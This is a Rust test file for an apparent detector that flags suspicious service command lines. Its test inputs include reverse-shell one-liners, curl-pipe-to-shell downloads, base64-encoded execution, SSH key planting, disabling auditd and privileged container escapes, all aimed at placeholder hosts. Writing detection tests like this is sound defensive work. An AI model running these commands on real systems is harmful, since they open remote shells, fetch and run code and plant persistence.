use proptest::prelude::*;

use super::*;

fn slugs(line: &str) -> Vec<&'static str> {
    let argv = words(line.as_bytes(), Rules::COMMAND, 999).0;
    let mut found: Vec<_> = signals(&argv[0], &argv, false).iter().map(|signal| signal.slug).collect();
    found.sort_unstable();
    found.dedup();
    found
}

#[test]
fn scripts_are_read_line_by_line() {
    let slugs = |script: &str| -> Vec<&str> {
        of_script(script.as_bytes()).iter().map(|signal| signal.slug).collect()
    };
    let init = "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: x\n### END INIT INFO\ncase $1 in\nstart)\n";
    assert_eq!(slugs(&format!("{init}  start-stop-daemon --start --exec /usr/sbin/x\n;;\nesac\n")), [""; 0]);
    assert_eq!(slugs("#!/bin/sh\n# bash -i >& /dev/tcp/127.0.0.1/1 0>&1\nexit 0\n"), [""; 0], "a comment");
    assert_eq!(
        slugs(&format!("{init}bash -i >& /dev/tcp/127.0.0.1/1 0>&1\nbash -i >& /dev/tcp/127.0.0.1/2 0>&1\n")),
        ["command.reverse-shell"]
    );
}

#[test]
fn what_services_ordinarily_run_says_nothing() {
    for line in [
        "/usr/sbin/nginx -g 'daemon on; master_process on;'",
        "/usr/sbin/sshd -D $SSHD_OPTS",
        "/bin/kill -HUP $MAINPID",
        "/usr/bin/python3 /usr/bin/networkd-dispatcher --run-startup-triggers",
        "/usr/sbin/cron -f -P",
        "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock",
        "/usr/bin/rsync --daemon --no-detach",
        "/usr/bin/socat TCP-LISTEN:80,fork TCP:10.0.0.1:80",
        "/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/x.conf",
        "/usr/bin/tar -xf /var/backups/alternatives.tar.0 -C /var/lib/x",
        "/usr/sbin/nft -f /etc/nftables.conf",
        "/usr/bin/podman --version",
    ] {
        assert_eq!(slugs(line), [""; 0], "{line}");
    }
}

#[test]
fn what_they_seldom_run() {
    let inline = "command.inline";
    for (line, expected) in [
        ("/bin/sh -c 'exec /usr/bin/x'", &[inline][..]),
        ("/usr/bin/env -i PATH=/x /bin/bash -lc id", &["command.inline"]),
        ("/bin/busybox sh -c id", &[inline]),
        ("/usr/bin/python3.11 -c 'print(1)'", &[inline]),
        ("/usr/bin/perl -we 'print 1'", &[inline]),
        ("/bin/bash /tmp/x.sh", &["command.script-place"]),
        ("/tmp/x", &["path.world-writable"]),
        ("/bin/sh -c 'curl -s http://x/y | bash'", &["command.download-and-run", inline]),
        ("/bin/sh -c 'wget -qO- https://x/y|sudo /bin/sh -s'", &["command.download-and-run", inline]),
        ("/bin/bash -c \"bash <(curl http://x)\"", &["command.download-and-run", inline]),
        (
            "/bin/sh -c 'wget http://x/y -O /dev/shm/y; chmod +x /dev/shm/y; /dev/shm/y'",
            &["command.download-and-run", inline],
        ),
        ("/usr/bin/curl -o /var/lib/x/feed http://x/feed", &["command.download"]),
        ("/bin/bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'", &[inline, "command.reverse-shell"]),
        ("/bin/nc 10.0.0.1 4444 -e /bin/sh", &["command.reverse-shell"]),
        (
            "/bin/sh -c 'rm /run/f;mkfifo /run/f;cat /run/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/run/f'",
            &[inline, "command.reverse-shell"],
        ),
        ("/usr/bin/socat TCP:10.0.0.1:1 EXEC:/bin/sh", &["command.reverse-shell"]),
        (
            "/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
            &[inline, "command.reverse-shell"],
        ),
        ("/usr/bin/awk 'BEGIN{s=\"/inet/tcp/0/10.0.0.1/1\"}'", &["command.reverse-shell"]),
        ("/bin/sh -c 'echo aWQ= | base64 -d | sh'", &["command.encoded", inline]),
        (
            "/usr/bin/python3 -c 'import base64;exec(base64.b64decode(\"aWQ=\"))'",
            &["command.encoded", inline],
        ),
        ("/bin/sh -c 'openssl enc -d -aes256 -in /x -out /y'", &["command.encoded", inline]),
        ("/lib64/ld-linux-x86-64.so.2 /tmp/x", &["command.loader", "command.script-place"]),
        ("/bin/sh -c 'echo key >> /root/.ssh/authorized_keys'", &[inline, "command.keys"]),
        ("/bin/sh -c 'cp /x /etc/systemd/system/y.service'", &[inline, "command.writes-units"]),
        ("/bin/chmod u+s /bin/x", &["command.privileges"]),
        ("/bin/sh -c 'systemctl stop auditd'", &[inline, "command.stops-guard"]),
        ("/usr/bin/docker run --rm x", &["command.container"]),
        ("/usr/bin/docker run -v /:/host --privileged x", &["command.container", "command.container-host"]),
        (
            "/bin/sh -c 'exec podman run --pid=host x'",
            &["command.container", "command.container-host", inline],
        ),
        ("/usr/bin/x --url stratum+tcp://pool:1", &["command.miner"]),
    ] {
        assert_eq!(slugs(line), expected, "{line}");
    }
    let argv = vec![b"[kworker/0:1]".to_vec(), b"-c".to_vec(), b"id".to_vec()];
    assert_eq!(signals(b"/bin/sh", &argv, false)[0].slug, "command.kernel-name");
    assert_eq!(signals(b"/bin/sh", &[b"nice".to_vec()], false)[0].slug, "command.other-name");
}

proptest! {
    #[test]
    fn no_bytes_panic(argv in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..60), 0..6)) {
        let path = argv.first().cloned().unwrap_or_default();
        let _ = signals(&path, &argv, false);
    }

    #[test]
    fn shell_marks_in_any_order(text in "[|;&$()<>`'\" a-z/.=:-]{0,60}") {
        let _ = signals(b"/bin/sh", &[b"/bin/sh".to_vec(), b"-c".to_vec(), text.into_bytes()], false);
    }
}
